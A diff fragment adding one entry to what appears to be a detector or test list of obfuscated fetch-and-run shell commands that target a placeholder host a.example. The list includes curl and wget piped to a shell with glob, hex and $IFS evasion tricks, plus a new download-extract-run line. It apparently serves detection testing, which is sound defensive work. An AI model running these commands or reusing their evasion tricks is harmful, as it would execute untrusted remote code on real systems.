@@ -58,6 +58,7 @@ POINTS_AT = {
         "/usr/bin/c?rl -s http://a.example/x | /bin/b?sh",
         "$'\\x63\\x75\\x72\\x6c' http://a.example/x | sh",
         "wget$IFS$9-qO-$IFS$9http://a.example/x|sh",
+        "cd /opt; wget http://a.example/k.tgz; tar xzf k.tgz; cd k; ./run",
         "cu$@rl http://a.example/x | sh",
     ],
     "decodes-and-runs": [
